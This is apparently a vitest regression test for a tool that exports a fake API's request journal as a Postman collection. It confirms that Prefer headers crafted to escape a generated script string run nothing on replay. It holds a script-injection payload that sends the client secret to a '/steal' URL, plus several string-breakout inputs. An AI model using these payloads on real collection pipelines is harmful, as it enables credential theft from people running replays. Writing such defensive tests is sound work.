// What a client sends is data in the journal collection, never script code: a Prefer header written to
// break out of a test name (a probe that once ran as script in the replay) stays the test's name when
// the collection is replayed, and the client secret the run sets goes nowhere else.
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'acorn';
import { afterEach, describe, expect, it } from 'vitest';
import { createFakeMyValue } from '../../mocks/create-fake';
import { createExpressApp, listen } from '../../mocks/express';
import type { RunReport } from '../../src/reports/run-json';
import { DEMO } from '../helpers/api';
import { runCli } from '../helpers/cli';
import { runInSandbox } from '../helpers/sandbox-pm';
import { tempDir } from '../helpers/temp-dir';
import { startCaptureServer } from '../harness/capture-server';

/** The probe's Prefer header: `\'` was escaped to `\\'`, which closed the test name and ran the rest. */
const preferPayload = (steal: string): string => `code=401, x=\\');pm.sendRequest({url:"${steal}/steal?secret="+encodeURIComponent(pm.variables.get("myvalueClientSecret"))});//`;

/** Other ways out of a script string: a quote of either kind, a backslash at the end, a line break, a line separator. */
const ESCAPES = [`code=401, x="); pm.sendRequest('http://127.0.0.1:9/x'); ("`, 'code=401, x=\\', 'code=401, x=\u2028pm.sendRequest("http://127.0.0.1:9/x")', 'code=401, x=*/ pm.sendRequest("http://127.0.0.1:9/x") /*'];

let closers: Array<() => Promise<void> | void> = [];
afterEach(async () => {
  for (const close of closers.reverse()) await close();
  closers = [];
});

const balanceRequest = (prefer: string) => ({ method: 'GET', path: '/service/point/', query: { valueID: 'VR8EPN', clientID: DEMO.clientId, sign: 'b'.repeat(64) }, headers: { prefer }, origin: 'http://127.0.0.1:4010' });

describe('a Prefer header in the journal collection', () => {
  it.each([preferPayload('http://127.0.0.1:9'), ...ESCAPES])('is the skipped test\'s name as sent, and runs nothing: %s', async (prefer) => {
    const fake = createFakeMyValue();
    closers.push(() => fake.close());
    expect((await fake.handle(balanceRequest(prefer))).status).toBe(401);
    const [item] = fake.journal.toCollection().item;
    const script = item?.event[0]?.script.exec.join('\n') ?? '';
    // ES5, as every script the project generates (a raw U+2028 ends an ES5 string).
    expect(() => parse(script, { ecmaVersion: 5 })).not.toThrow();
    const run = runInSandbox(script, { request: { method: 'GET', url: 'http://127.0.0.1:9/service/point/' }, variables: { myvalueClientSecret: 'made-up-journal-secret' }, response: { code: 401, body: {} } });
    expect(run.sent).toEqual([]);
    expect(run.tests).toEqual([{ name: `status not asserted: it was answered under prefer:${prefer.trim()}`, skipped: true }]);
    // The description says it too, as text.
    expect(item?.request.description).toContain(`It was answered under prefer:${prefer.trim()}`);
  });

  it('replayed with `myvalue run` sends the client secret nowhere but MyValue, and shows the header as the skipped test', async () => {
    const capture = await startCaptureServer();
    closers.push(capture.close);
    const fake = createFakeMyValue();
    const running = await listen(createExpressApp(fake), 0, '127.0.0.1');
    closers.push(running.close, () => fake.close());
    // The partner's app (or anyone who can reach the fake) sends the header.
    const prefer = preferPayload(capture.url);
    const sent = await fetch(`${running.url}/service/point/?valueID=VR8EPN&clientID=${DEMO.clientId}&sign=${'b'.repeat(64)}`, { headers: { prefer } });
    expect(sent.status).toBe(401);
    const dir = tempDir('myvalue-journal-injection-');
    const file = join(dir, 'journal.postman_collection.json');
    writeFileSync(file, await (await fetch(`${running.url}/__admin/requests/collection`)).text());
    const secret = 'made-up-journal-secret-0042';
    const out = join(dir, 'reports');
    const cli = await runCli(['run', '--collection', file, '--target', 'mock', '--client-id', DEMO.clientId, '--client-secret', secret, '--out', out]);
    expect(capture.requests.map((r) => `${r.method} ${r.path}?${r.query.toString()}`)).toEqual([]);
    const report = JSON.parse(readFileSync(join(out, 'run.json'), 'utf8')) as RunReport;
    expect(report.requests.flatMap((r) => r.assertions.filter((a) => a.skipped))).toEqual([expect.objectContaining({ name: `status not asserted: it was answered under prefer:${prefer}` })]);
    expect(cli.code, [...cli.out, ...cli.err].join('\n')).toBe(0);
  }, 60_000);
});
